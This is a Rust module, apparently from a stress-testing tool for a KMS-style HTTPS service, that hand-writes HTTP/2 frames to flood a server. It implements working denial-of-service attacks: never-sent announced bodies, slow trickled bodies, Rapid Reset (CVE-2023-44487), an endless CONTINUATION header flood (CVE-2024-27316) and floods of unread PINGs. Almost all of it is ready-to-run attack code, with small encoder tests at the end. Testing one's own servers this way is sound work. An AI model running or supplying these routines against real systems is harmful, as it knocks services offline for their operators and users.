//! Attacks over HTTP/2. Frames are written by hand (RFC 9113, section 4.1), because no library sends such frames.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::{self, AsyncWriteExt, ReadHalf, WriteHalf};
use tokio::net::TcpStream;
use tokio::time::sleep;
use tokio_rustls::client::TlsStream;

use super::attack::{Attack, drain};

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const ACK: u8 = 1;

/// The client's connection preface (RFC 9113, section 3.4).
const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// `CANCEL`
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
/// Streams that announce bodies on one connection: as many as the server allows.
const STREAMS: u32 = 32;
/// Bytes that each announces: the most that an unknown caller may.
const ANNOUNCED: &str = "65536";
/// Interval between groups of announcements on the same connection.
const NEXT_GROUP: Duration = Duration::from_secs(5);
/// Streams that are opened and reset in one batch.
const RESETS: u32 = 50;
/// Pause between such batches.
const PAUSE: Duration = Duration::from_millis(100);
/// Bytes in a frame of a head that never ends.
const PIECE: usize = 8 * 1024;

/// Streams that announce bodies and never send them.
pub(super) async fn announced_bodies(attack: Arc<Attack>) -> io::Result<()> {
    talk(attack, async |attack, write| {
        let mut head = kms_head();
        head.extend(field("content-length", ANNOUNCED));
        let mut stream = 1;
        loop {
            let mut bytes = Vec::new();
            for _ in 0..STREAMS {
                bytes.extend(frame(HEADERS, END_HEADERS, stream, &head));
                stream += 2;
            }
            send(attack, write, u64::from(STREAMS), &bytes).await?;
            sleep(NEXT_GROUP).await;
        }
    })
    .await
}

/// The same with a byte of each body each second.
pub(super) async fn slow_bodies(attack: Arc<Attack>) -> io::Result<()> {
    talk(attack, async |attack, write| {
        let mut head = kms_head();
        head.extend(field("content-length", ANNOUNCED));
        let streams = || (0..STREAMS).map(|number| 2 * number + 1);
        let heads: Vec<u8> =
            streams().flat_map(|stream| frame(HEADERS, END_HEADERS, stream, &head)).collect();
        send(attack, write, u64::from(STREAMS), &heads).await?;
        let bytes: Vec<u8> = streams().flat_map(|stream| frame(DATA, 0, stream, b" ")).collect();
        loop {
            sleep(Duration::from_secs(1)).await;
            send(attack, write, 0, &bytes).await?;
        }
    })
    .await
}

/// Requests that are cancelled at once (CVE-2023-44487).
pub(super) async fn rapid_reset(attack: Arc<Attack>) -> io::Result<()> {
    talk(attack, async |attack, write| {
        let head = kms_head();
        let mut stream = 1;
        loop {
            let mut bytes = Vec::new();
            for _ in 0..RESETS {
                bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &head));
                bytes.extend(frame(RST_STREAM, 0, stream, &CANCEL));
                stream += 2;
            }
            send(attack, write, u64::from(RESETS), &bytes).await?;
            sleep(PAUSE).await;
        }
    })
    .await
}

/// A head that never ends, in CONTINUATION frames (CVE-2024-27316).
pub(super) async fn continuations(attack: Arc<Attack>) -> io::Result<()> {
    talk(attack, async |attack, write| {
        send(attack, write, 1, &frame(HEADERS, END_STREAM, 1, &kms_head())).await?;
        let piece: Vec<u8> = field("x-more", &"m".repeat(100)).repeat(PIECE / 110);
        let piece = frame(CONTINUATION, 0, 1, &piece);
        loop {
            send(attack, write, 0, &piece).await?;
            sleep(PAUSE).await;
        }
    })
    .await
}

/// Pings whose answers are not read.
pub(super) async fn unread_pings(attack: Arc<Attack>) -> io::Result<()> {
    let (_read, mut write) = begin(&attack).await?;
    let pings = frame(PING, 0, 0, b"besieged").repeat(200);
    loop {
        send(&attack, &mut write, 0, &pings).await?;
        sleep(PAUSE).await;
    }
}

type Write = WriteHalf<TlsStream<TcpStream>>;

/// Sends frames from `say` and reads what comes, until the other side ends.
async fn talk(
    attack: Arc<Attack>,
    say: impl AsyncFnOnce(&Attack, &mut Write) -> io::Result<()>,
) -> io::Result<()> {
    let (mut read, mut write) = begin(&attack).await?;
    tokio::select! {
        outcome = say(&attack, &mut write) => outcome,
        outcome = drain(&mut read) => outcome,
    }
}

async fn begin(attack: &Attack) -> io::Result<(ReadHalf<TlsStream<TcpStream>>, Write)> {
    let (read, mut write) = io::split(attack.tls_http2().await?);
    // Acknowledges the server's settings before it sees them: nothing here depends on them.
    let first = [PREFACE, &frame(SETTINGS, 0, 0, &[]), &frame(SETTINGS, ACK, 0, &[])].concat();
    send(attack, &mut write, 0, &first).await?;
    Ok((read, write))
}

async fn send(attack: &Attack, write: &mut Write, requests: u64, bytes: &[u8]) -> io::Result<()> {
    write.write_all(bytes).await?;
    write.flush().await?;
    attack.sent(requests, bytes.len());
    Ok(())
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut bytes = Vec::with_capacity(9 + payload.len());
    bytes.extend_from_slice(&[len[1], len[2], len[3], kind, flags]);
    bytes.extend_from_slice(&stream.to_be_bytes());
    bytes.extend_from_slice(payload);
    bytes
}

/// The head of an unsigned KMS call.
fn kms_head() -> Vec<u8> {
    [
        (":method", "POST"),
        (":scheme", "https"),
        (":path", "/"),
        (":authority", "localhost"),
        ("content-type", "application/x-amz-json-1.1"),
        ("x-amz-target", "TrentService.Encrypt"),
    ]
    .iter()
    .flat_map(|(name, value)| field(name, value))
    .collect()
}

/// A literal field without indexing, with a new name and without Huffman (RFC 7541, section 6.2.2).
fn field(name: &str, value: &str) -> Vec<u8> {
    let mut bytes = vec![0];
    for text in [name, value] {
        length(&mut bytes, text.len());
        bytes.extend_from_slice(text.as_bytes());
    }
    bytes
}

/// An integer with a prefix of 7 bits (RFC 7541, section 5.1).
fn length(bytes: &mut Vec<u8>, len: usize) {
    const PREFIX: usize = 127;
    let low = |number: usize| u8::try_from(number & 0x7f).unwrap_or_default();
    if len < PREFIX {
        bytes.push(low(len));
        return;
    }
    bytes.push(low(PREFIX));
    let mut rest = len - PREFIX;
    while rest > PREFIX {
        bytes.push(low(rest) | 0x80);
        rest >>= 7;
    }
    bytes.push(low(rest));
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lengths_are_written_as_hpack_has_them() {
        // RFC 7541, appendix C.1, for a prefix of 7 bits.
        for (len, expected) in [
            (10, vec![10]),
            (127, vec![127, 0]),
            (255, vec![127, 0x80, 1]),
            (1337, vec![127, 0xba, 9]),
        ] {
            let mut bytes = Vec::new();
            length(&mut bytes, len);
            assert_eq!(bytes, expected, "{len}");
        }
    }

    #[test]
    fn frames_have_a_head_of_nine_bytes() {
        assert_eq!(frame(PING, ACK, 3, b"x"), [0, 0, 1, 6, 1, 0, 0, 0, 3, b'x']);
    }
}
